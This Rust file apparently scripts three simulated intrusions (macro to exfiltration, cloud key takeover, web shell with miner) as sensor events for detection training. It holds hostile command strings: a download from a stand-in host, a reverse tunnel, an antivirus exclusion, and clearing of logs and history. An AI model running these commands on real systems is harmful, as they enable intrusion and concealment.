//! The three intrusions of the night, step by step. What they do is told by what sensors would say about it; no command
//! here would do harm.

use crate::clock::at;
use crate::rules::*;
use crate::story::{Parent, Proc, STEP, Script, Step};

pub(crate) const SCRIPTS: &[&Script] = &[&OFFICE_MACRO, &CLOUD_KEY, &WEB_SERVER];

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const DESK: &str = "FIN-WS-014";
const CLERK: &str = "u.fin.0147";
const ADMIN: &str = "adm.t1.03";
const FILES: &str = "FIN-FS-02";
const LURE: &str = r"C:\Users\u.fin.0147\Mail\Q4_accruals_review.docm";
const LOOT: &str = r"C:\Windows\Temp\~df41.tmp";

/// A macro on a finance desk, an admin account, a file server, and out. The network sensor is silent for its middle part.
static OFFICE_MACRO: Script = Script {
    name: "Office macro, LSASS read, data out of FIN-FS-02",
    what: "A mailed macro ran PowerShell on FIN-WS-014; with adm.t1.03, read from memory, files of FIN-FS-02 were archived and sent out.",
    processes: &[
        Proc {
            image: r"C:\Program Files\Office\WINWORD.EXE",
            command: r"WINWORD.EXE /n C:\Users\u.fin.0147\Mail\Q4_accruals_review.docm",
            parent: Parent::Running(r"C:\Program Files\Office\OUTLOOK.EXE"),
        },
        Proc {
            image: POWERSHELL,
            command: "powershell.exe -nop -w hidden -enc JABzAD0AJwBzAHkAbgBjACcAOwA=",
            parent: Parent::Proc(0),
        },
        Proc {
            image: r"C:\Windows\System32\schtasks.exe",
            command: r"schtasks.exe /create /tn SyncHelper /sc minute /mo 30 /tr C:\ProgramData\Sync\synchelper.exe",
            parent: Parent::Proc(1),
        },
        Proc {
            image: POWERSHELL,
            command: r"powershell.exe Add-MpPreference -ExclusionPath C:\ProgramData\Sync",
            parent: Parent::Proc(1),
        },
        Proc { image: r"C:\ProgramData\Sync\synchelper.exe", command: "synchelper.exe -q", parent: Parent::Proc(1) },
        Proc {
            image: r"C:\Windows\System32\cmd.exe",
            command: "cmd.exe",
            parent: Parent::Running(r"C:\Windows\explorer.exe"),
        },
        Proc {
            image: r"C:\Windows\System32\net.exe",
            command: "net.exe group \"Finance Servers\" /domain",
            parent: Parent::Proc(5),
        },
        Proc {
            image: r"C:\Windows\svcsync.exe",
            command: "svcsync.exe",
            parent: Parent::Running(r"C:\Windows\System32\services.exe"),
        },
        Proc {
            image: r"C:\Windows\Temp\7za.exe",
            command: r"7za.exe a -p -mhe C:\Windows\Temp\~df41.tmp D:\Finance\Quarter",
            parent: Parent::Proc(7),
        },
        Proc {
            image: r"C:\Windows\Temp\mover.exe",
            command: r"mover.exe copy C:\Windows\Temp\~df41.tmp store:in",
            parent: Parent::Proc(7),
        },
        Proc {
            image: r"C:\Windows\System32\wevtutil.exe",
            command: "wevtutil.exe cl Security",
            parent: Parent::Proc(7),
        },
    ],
    steps: &[
        Step { at: at(1, 52, 11), rule: &MACRO, host: DESK, user: CLERK, process: Some(0), file: LURE, ..STEP },
        Step { at: at(1, 52, 38), rule: &OFFICE_CHILD, host: DESK, user: CLERK, process: Some(1), ..STEP },
        Step { at: at(1, 52, 39), rule: &ENCODED, host: DESK, user: CLERK, process: Some(1), ..STEP },
        Step {
            at: at(1, 53, 4),
            rule: &NEW_DOMAIN,
            src: "@FIN-WS-014",
            dst: "203.0.113.77",
            port: 443,
            name: "cdn-sync.example",
            ..STEP
        },
        Step {
            at: at(1, 53, 20),
            rule: &DOWNLOAD,
            host: DESK,
            user: CLERK,
            process: Some(1),
            dst: "203.0.113.77",
            port: 443,
            name: "cdn-sync.example",
            file: r"C:\ProgramData\Sync\synchelper.exe",
            ..STEP
        },
        Step { at: at(1, 55, 2), rule: &TASK, host: DESK, user: CLERK, process: Some(2), ..STEP },
        Step { at: at(1, 58, 30), rule: &TAMPER, host: DESK, user: CLERK, process: Some(3), ..STEP },
        Step {
            at: at(1, 59, 0),
            rule: &RHYTHM,
            src: "@FIN-WS-014",
            dst: "203.0.113.77",
            port: 443,
            name: "cdn-sync.example",
            times: 6,
            gap_s: 120,
            ..STEP
        },
        Step { at: at(2, 3, 12), rule: &TOKEN, host: DESK, user: CLERK, process: Some(4), ..STEP },
        Step { at: at(2, 5, 44), rule: &LSASS, host: DESK, user: CLERK, process: Some(4), ..STEP },
        Step {
            at: at(2, 8, 20),
            rule: &ADMIN_SIGN_IN,
            user: ADMIN,
            src: "@FIN-WS-014",
            call: ("", "directory"),
            ..STEP
        },
        Step { at: at(2, 9, 5), rule: &JUMP_LOGON, host: "JUMP-01", user: ADMIN, src: "@FIN-WS-014", ..STEP },
        Step { at: at(2, 10, 2), rule: &DESKTOP, src: "@FIN-WS-014", dst: "@JUMP-01", port: 3389, ..STEP },
        Step {
            at: at(2, 13, 31),
            rule: &ACCOUNTS,
            host: "JUMP-01",
            user: ADMIN,
            process: Some(6),
            times: 2,
            gap_s: 45,
            ..STEP
        },
        Step { at: at(2, 15, 3), rule: &LDAP, host: "DC-02", user: ADMIN, src: "@JUMP-01", ..STEP },
        Step {
            at: at(2, 19, 40),
            rule: &SHARE_FILE,
            host: FILES,
            user: ADMIN,
            src: "@JUMP-01",
            file: r"C:\Windows\svcsync.exe",
            ..STEP
        },
        Step {
            at: at(2, 20, 6),
            rule: &SERVICE,
            host: FILES,
            user: ADMIN,
            src: "@JUMP-01",
            process: Some(7),
            file: r"C:\Windows\svcsync.exe",
            ..STEP
        },
        Step {
            at: at(2, 41, 15),
            rule: &MASS_READ,
            host: FILES,
            user: ADMIN,
            process: Some(8),
            times: 4,
            gap_s: 150,
            ..STEP
        },
        Step { at: at(2, 52, 2), rule: &ARCHIVE, host: FILES, user: ADMIN, process: Some(8), file: LOOT, ..STEP },
        Step {
            at: at(3, 1, 10),
            rule: &UPLOAD,
            host: FILES,
            user: ADMIN,
            src: "@FIN-FS-02",
            dst: "203.0.113.88",
            port: 443,
            name: "dropshelf.example",
            times: 3,
            gap_s: 170,
            ..STEP
        },
        Step {
            at: at(3, 9, 48),
            rule: &NEW_PROGRAM,
            host: FILES,
            user: ADMIN,
            process: Some(9),
            file: LOOT,
            dst: "203.0.113.88",
            port: 443,
            name: "dropshelf.example",
            ..STEP
        },
        Step {
            at: at(3, 16, 22),
            rule: &BIG_UPLOAD,
            src: "@FIN-FS-02",
            dst: "203.0.113.88",
            port: 443,
            name: "dropshelf.example",
            times: 2,
            gap_s: 400,
            ..STEP
        },
        Step { at: at(3, 31, 7), rule: &LOG_CLEARED, host: FILES, user: ADMIN, process: Some(10), ..STEP },
    ],
};

const ENGINEER: &str = "u.eng.0188";
const KEY: &str = "svc-cloud-sync";
const HOTEL: &str = "203.0.113.23";
const FAR: (&str, &str) = ("US", "Denver");

/// Push prompts until one is accepted, then a key of its own, logging off, and a bucket copied away.
static CLOUD_KEY: Script = Script {
    name: "Push prompts, new cloud key, logging off, bucket copied",
    what: "u.eng.0188 accepted one of many push prompts; an access key was made for svc-cloud-sync, logging stopped and a bucket copied to a foreign account.",
    processes: &[],
    steps: &[
        Step {
            at: at(0, 21, 4),
            rule: &NEW_NETWORK,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("", "portal"),
            ..STEP
        },
        Step {
            at: at(0, 22, 9),
            rule: &PROMPT,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("", "portal"),
            times: 9,
            gap_s: 75,
            ..STEP
        },
        Step {
            at: at(0, 35, 12),
            rule: &PROMPT_TAKEN,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("", "portal"),
            ..STEP
        },
        Step {
            at: at(0, 38, 50),
            rule: &NEW_FACTOR,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("", "factors"),
            ..STEP
        },
        Step {
            at: at(0, 41, 30),
            rule: &CONSOLE,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("sign-in", "ConsoleLogin"),
            ..STEP
        },
        Step {
            at: at(0, 44, 2),
            rule: &LIST_CALLS,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("identity", "ListUsers"),
            ..STEP
        },
        Step {
            at: at(0, 49, 41),
            rule: &NEW_KEY,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("identity", "CreateAccessKey"),
            resource: KEY,
            ..STEP
        },
        Step {
            at: at(0, 51, 15),
            rule: &NEW_ROLE,
            user: ENGINEER,
            src: HOTEL,
            place: FAR,
            call: ("identity", "AttachPolicy"),
            resource: KEY,
            ..STEP
        },
        Step {
            at: at(0, 56, 3),
            rule: &LOGGING_OFF,
            user: KEY,
            src: HOTEL,
            place: FAR,
            call: ("audit", "StopLogging"),
            resource: "trail/main",
            ..STEP
        },
        Step { at: at(0, 57, 20), rule: &TWO_NETWORKS, user: KEY, src: HOTEL, ..STEP },
        Step {
            at: at(1, 1, 12),
            rule: &BUCKET_READ,
            user: KEY,
            src: HOTEL,
            place: FAR,
            call: ("storage", "GetObject"),
            resource: "orrery-designs",
            times: 3,
            gap_s: 140,
            ..STEP
        },
        Step {
            at: at(1, 9, 30),
            rule: &BUCKET_COPY,
            user: KEY,
            src: HOTEL,
            place: FAR,
            call: ("storage", "PutReplication"),
            resource: "orrery-designs",
            ..STEP
        },
    ],
};

const WEB: &str = "WEB-EDGE-03";
const SHELL: &str = "/srv/www/upload/.img41.php";

/// A web server taken through its application, kept with cron, and put to work as a tunnel and a miner.
static WEB_SERVER: Script = Script {
    name: "Web service started a shell on WEB-EDGE-03",
    what: "WEB-EDGE-03 was exploited through its web application; a web shell, a cron entry, a tunnel and a coin miner followed.",
    processes: &[
        Proc {
            image: "/bin/sh",
            command: "sh -c id; uname -a; ip a",
            parent: Parent::Running("/usr/lib/jvm/bin/java"),
        },
        Proc { image: "/usr/bin/id", command: "id", parent: Parent::Proc(0) },
        Proc { image: "/usr/bin/uname", command: "uname -a", parent: Parent::Proc(0) },
        Proc { image: "/usr/bin/curl", command: "curl -s http://203.0.113.142/k -o /tmp/.k", parent: Parent::Proc(0) },
        Proc { image: "/usr/bin/crontab", command: "crontab /tmp/.c", parent: Parent::Proc(0) },
        Proc { image: "/tmp/.k", command: "/tmp/.k -r 203.0.113.142:443", parent: Parent::Proc(0) },
        Proc { image: "/usr/bin/sudo", command: "sudo -n /tmp/.k --root", parent: Parent::Proc(5) },
        Proc { image: "/usr/bin/kworkerd", command: "[kworkerd] -o pool.hash.example:3333", parent: Parent::Proc(6) },
        Proc { image: "/bin/rm", command: "rm -f /var/www/.bash_history", parent: Parent::Proc(0) },
    ],
    steps: &[
        Step {
            at: at(22, 38, 2),
            rule: &WEB_SCAN,
            src: "203.0.113.141",
            dst: "@WEB-EDGE-03",
            port: 443,
            times: 2,
            gap_s: 90,
            ..STEP
        },
        Step {
            at: at(22, 41, 40),
            rule: &EXPLOIT,
            src: "203.0.113.141",
            dst: "@WEB-EDGE-03",
            port: 443,
            times: 3,
            gap_s: 25,
            ..STEP
        },
        Step { at: at(22, 42, 51), rule: &WEB_SHELL_CHILD, host: WEB, user: "www-data", process: Some(0), ..STEP },
        Step { at: at(22, 43, 3), rule: &SYSTEM_INFO, host: WEB, user: "www-data", process: Some(2), ..STEP },
        Step {
            at: at(22, 45, 19),
            rule: &WEB_ROOT,
            host: WEB,
            user: "www-data",
            process: Some(0),
            file: SHELL,
            ..STEP
        },
        Step {
            at: at(22, 51, 7),
            rule: &NEW_POST,
            host: WEB,
            src: "203.0.113.141",
            file: SHELL,
            times: 2,
            gap_s: 300,
            ..STEP
        },
        Step {
            at: at(22, 58, 33),
            rule: &DOWNLOAD,
            host: WEB,
            user: "www-data",
            process: Some(3),
            dst: "203.0.113.142",
            port: 80,
            file: "/tmp/.k",
            ..STEP
        },
        Step { at: at(23, 2, 10), rule: &CRON, host: WEB, user: "www-data", process: Some(4), file: "/tmp/.c", ..STEP },
        Step {
            at: at(23, 4, 56),
            rule: &TUNNEL,
            src: "@WEB-EDGE-03",
            dst: "203.0.113.142",
            port: 443,
            times: 4,
            gap_s: 600,
            ..STEP
        },
        Step { at: at(23, 9, 28), rule: &SUDO, host: WEB, user: "www-data", process: Some(6), ..STEP },
        Step { at: at(23, 17, 45), rule: &MINER, host: WEB, user: "root", process: Some(7), ..STEP },
        Step {
            at: at(23, 19, 0),
            rule: &POOL,
            src: "@WEB-EDGE-03",
            dst: "203.0.113.143",
            port: 3333,
            name: "pool.hash.example",
            times: 3,
            gap_s: 700,
            ..STEP
        },
        Step {
            at: at(23, 24, 6),
            rule: &HISTORY,
            host: WEB,
            user: "www-data",
            process: Some(8),
            file: "/var/www/.bash_history",
            ..STEP
        },
    ],
};
